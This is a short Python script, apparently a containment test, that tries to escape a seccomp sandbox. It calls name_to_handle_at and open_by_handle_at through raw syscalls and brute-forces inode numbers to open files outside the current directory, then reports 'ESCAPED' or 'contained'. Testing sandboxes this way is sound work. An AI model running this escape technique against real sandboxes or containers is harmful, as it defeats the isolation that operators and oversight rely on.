# escape: a file outside is opened by its number instead of its name
# needs: seccomp
import ctypes, os, platform, struct
libc = ctypes.CDLL(None, use_errno=True)
x86 = platform.machine() == "x86_64"
hits = []
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
mount = ctypes.c_int()
if libc.syscall(ctypes.c_long(303 if x86 else 264), ctypes.c_long(-100), b".", handle, ctypes.byref(mount), ctypes.c_long(0)) >= 0:
    hits.append("name_to_handle_at")
folder = os.open(".", os.O_RDONLY)
for inode in range(2, 300):
    guess = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0), 16)
    if libc.syscall(ctypes.c_long(304 if x86 else 265), ctypes.c_long(folder), guess, ctypes.c_long(0)) >= 0:
        hits.append(inode)
print("ESCAPED:", hits[:5]) if hits else print("contained")
